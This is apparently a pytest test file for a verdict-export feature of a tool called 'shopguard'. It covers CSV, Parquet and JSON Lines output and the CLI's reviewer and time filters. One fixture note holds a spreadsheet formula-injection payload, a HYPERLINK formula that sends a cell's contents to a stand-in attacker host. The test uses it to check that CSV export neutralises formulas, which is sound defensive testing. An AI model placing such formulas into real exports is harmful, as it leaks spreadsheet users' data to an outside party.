"""Verdict exports (``shopguard audit verdicts --out`` and the console's link): every stored
verdict, oldest first, narrowed by time and reviewer; CSV cells never run as spreadsheet
formulas, Parquet and JSON Lines keep every value exact."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime

import pyarrow.parquet as pq

from common.settings import load_settings
from database.engine import make_engine
from serving.feedback import feedback_table
from serving.verdict_export import COLUMNS, export_verdicts
from tests.conftest import run_cli

FORMULA = '=HYPERLINK("http://attacker.example/?x="&A1,"x")'


def verdict_rows() -> list[dict]:
    """Three verdicts: rita on a listing (with a formula in her note), otto on two stream segments."""
    def row(day: int, reviewer: str, entity_type: str, label: str, segment: int | None, note: str) -> dict:
        return {"at": datetime(2026, 12, day, 8, tzinfo=UTC), "entity_type": entity_type, "entity_id": f"E{day}",
                "request_id": f"req{day}", "segment_index": segment, "model": f"m:v{day}", "label": label,
                "reviewer": reviewer, "note": note}

    return [row(1, "rita", "listing", "inferior", None, FORMULA), row(2, "otto", "stream", "ok", None, "clean"),
            row(3, "otto", "stream", "absolute_claim|price_fraud", 1, "商品 全网最低")]


def store_verdicts() -> None:
    """The three verdicts in this test's home."""
    with make_engine(load_settings().database_url).begin() as conn:
        conn.execute(feedback_table.insert(), verdict_rows())


def test_the_export_streams_every_verdict_in_three_formats(isolated_home) -> None:
    store_verdicts()
    engine = make_engine(load_settings().database_url)
    cells = list(csv.DictReader(io.StringIO(b"".join(export_verdicts(engine, "csv", chunk_rows=1)).decode())))
    assert list(cells[0]) == COLUMNS and [c["reviewer"] for c in cells] == ["rita", "otto", "otto"]
    assert cells[0]["note"].startswith("'=") and cells[0]["verdict"] == "violation"
    assert cells[1]["verdict"] == "ok" and cells[1]["segment_index"] == "" and cells[0]["at"].endswith("+00:00")
    table = pq.read_table(io.BytesIO(b"".join(export_verdicts(engine, "parquet", chunk_rows=2))))
    assert table.column("note").to_pylist()[0] == FORMULA and table.column("segment_index").to_pylist() == [None,
                                                                                                             None, 1]
    lines = b"".join(export_verdicts(engine, "jsonl", reviewer="otto")).decode().splitlines()
    assert [json.loads(line)["label"] for line in lines] == ["ok", "absolute_claim|price_fraud"]
    assert json.loads(lines[1])["note"] == "商品 全网最低"


def test_the_cli_exports_verdicts_with_filters(isolated_home, tmp_path) -> None:
    store_verdicts()
    out = tmp_path / "out" / "verdicts.csv"
    result = run_cli("audit", "verdicts", "--out", str(out), home=isolated_home)
    assert "wrote 3 verdicts" in result.stderr
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    assert [r["entity_id"] for r in rows] == ["E1", "E2", "E3"] and rows[0]["note"].startswith("'=")
    narrowed = tmp_path / "otto.jsonl"
    run_cli("audit", "verdicts", "--out", str(narrowed), "--reviewer", "otto", "--since", "2026-12-02",
            "--until", "2026-12-03T10:00+02:00", home=isolated_home)  # 08:00 UTC: the 3rd at 08:00 is left out
    assert [json.loads(line)["entity_id"] for line in narrowed.read_text().splitlines()] == ["E2"]
    parquet = tmp_path / "all.parquet"
    run_cli("audit", "verdicts", "--out", str(parquet), home=isolated_home)
    assert pq.read_table(parquet).num_rows == 3 and not list(tmp_path.glob("*.partial"))
    refused = run_cli("audit", "verdicts", "--out", str(tmp_path / "v.xlsx"), home=isolated_home, check=False)
    assert refused.returncode != 0 and "--out" in refused.stdout + refused.stderr
    bad_time = run_cli("audit", "verdicts", "--out", str(out), "--since", "yesterday", home=isolated_home,
                       check=False)
    assert bad_time.returncode != 0 and "--since" in bad_time.stdout + bad_time.stderr
